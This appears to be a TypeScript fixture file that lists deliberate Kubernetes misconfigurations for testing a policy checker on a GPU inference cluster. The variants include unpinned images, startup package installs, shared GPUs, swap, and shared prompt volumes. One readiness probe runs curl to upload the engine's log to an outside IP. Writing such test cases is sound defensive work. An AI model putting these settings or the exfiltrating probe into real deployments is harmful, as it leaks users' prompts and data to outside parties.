import { isArray } from "../../../policies/model/value.ts";
import type { Leak } from "../leak.ts";
import { add, all, type Change, edit, kube, withImages } from "../support/change.ts";
import { append, replace, set, unset, within } from "../support/edit.ts";
import { engine, enginePod } from "../support/engine.ts";
import { configFile, container, cronJob, podSpec } from "../support/objects.ts";

/** The engine's command line, wrapped into a shell that does something else first. */
function shellFirst(first: string): Change {
  return engine(
    within("command", (command) => {
      if (!isArray(command)) throw new Error("the engine has no command");
      return ["sh", "-c", `${first} && exec ${command.map(String).join(" ")}`];
    }),
  );
}

/** How NVIDIA's device plugin is told to hand one GPU to several pods. */
function sharing(kind: "timeSlicing" | "mps"): Change {
  return all(
    add(
      configFile("gpu-operator/gpu-sharing", "any", [
        "version: v1",
        "sharing:",
        `  ${kind}:`,
        "    resources:",
        "      - name: nvidia.com/gpu",
        "        replicas: 4",
      ]),
    ),
    edit(
      "ClusterPolicy",
      "gpu-operator:cluster-policy",
      set("spec.devicePlugin", { config: { name: "gpu-sharing", default: "any" } }),
    ),
  );
}

/** EKS's own format of a node's settings, with swap for pods. */
const swapping = Buffer.from(
  [
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="node-config"',
    "",
    "--node-config",
    "Content-Type: application/node.eks.aws",
    "",
    "apiVersion: node.eks.aws/v1alpha1",
    "kind: NodeConfig",
    "spec:",
    "  kubelet:",
    "    config:",
    "      failSwapOn: false",
    "      memorySwap: { swapBehavior: LimitedSwap }",
    "",
    "--node-config--",
    "",
  ].join("\n"),
).toString("base64");

const claimsClass = { accessModes: ["ReadWriteMany"], storageClassName: "weights" };

/** What a pod runs, and what it leaves behind. Rows 35 to 37. */
export const residue: readonly Leak[] = [
  {
    row: 35,
    title: "Code that comes from outside when the pod starts or is probed",
    catchers: ["W04", "W05"],
    column: "policy",
    variants: [
      {
        name: "public-image",
        title: "the engine's image from the public registry, though by digest",
        stack: "prod",
        change: engine(replace("image", "registry.prod.example.internal/", "")),
      },
      {
        name: "moving-tag",
        title: "the engine's image by a tag that moves",
        stack: "staging",
        change: engine(replace("image", /@sha256:\w+$/, ":v0.33.0")),
      },
      {
        name: "pip-install",
        title: "a shell installs a package before it starts the engine",
        stack: "prod",
        change: shellFirst("pip install sentence-transformers"),
      },
      {
        name: "post-start-request",
        title: "the kubelet tells a host outside that the engine has started",
        stack: "staging",
        change: engine(
          set("lifecycle.postStart", {
            httpGet: { host: "203.0.113.7", port: 80, path: "/started" },
          }),
        ),
      },
      {
        name: "probe-by-shell",
        title: "a probe runs a shell that posts the engine's log",
        stack: "prod",
        change: engine(
          set("readinessProbe", {
            exec: { command: ["sh", "-c", "curl -sT /tmp/engine.log http://203.0.113.7/"] },
            periodSeconds: 5,
          }),
        ),
      },
    ],
  },
  {
    row: 36,
    title: "Memory that outlives the pod: dumps, disks, swap, a shared GPU",
    catchers: ["W07", "W08", "A14"],
    column: "policy",
    variants: [
      {
        name: "writable-root",
        title: "a helper without a GPU writes to its root, which lies on the node's disk",
        stack: "prod",
        change: withImages((image) => {
          const convert = container("convert", image("docker.io/rclone/rclone"), {
            securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ["ALL"] } },
          });
          return add(...cronJob("inference/convert", podSpec("convert", [convert])));
        }),
      },
      {
        name: "scratch-on-disk",
        title: "the temporary files lie on the node's disk",
        stack: "staging",
        change: enginePod(set("spec.volumes[3].emptyDir", {})),
      },
      {
        name: "memory-without-limit",
        title: "a volume in memory may grow until the node writes memory elsewhere",
        stack: "prod",
        change: enginePod(unset("spec.volumes[1].emptyDir.sizeLimit")),
      },
      {
        name: "time-slicing",
        title: "four pods take turns on one GPU, whose memory nobody clears",
        stack: "prod",
        change: sharing("timeSlicing"),
      },
      {
        name: "multi-process",
        title: "four pods share one GPU at the same time",
        stack: "staging",
        change: sharing("mps"),
      },
      {
        name: "swap",
        title: "the GPU nodes swap memory of pods to disk",
        stack: "staging-cluster",
        advisory: true,
        change: edit("LaunchTemplate", "cluster-a100", set("userData", swapping)),
      },
    ],
  },
  {
    row: 37,
    title: "Prompts on a volume that others mount",
    catchers: ["A09", "S01"],
    column: "policy",
    variants: [
      {
        name: "writable-weights",
        title: "the engine may write to the weights that all replicas and tenants read",
        stack: "prod",
        change: all(
          enginePod(set("spec.volumes[0].persistentVolumeClaim.readOnly", false)),
          engine(set("volumeMounts[0].readOnly", false)),
        ),
      },
      {
        name: "prompt-archive",
        title: "a claim that many mount, to keep prompts for an evaluation",
        stack: "staging",
        change: all(
          add(
            kube("v1", "PersistentVolumeClaim", "inference/prompts", {
              spec: { ...claimsClass, resources: { requests: { storage: "100Gi" } } },
            }),
          ),
          enginePod(
            append("spec.volumes", {
              name: "prompts",
              persistentVolumeClaim: { claimName: "prompts" },
            }),
          ),
          engine(append("volumeMounts", { name: "prompts", mountPath: "/prompts" })),
        ),
      },
    ],
  },
];
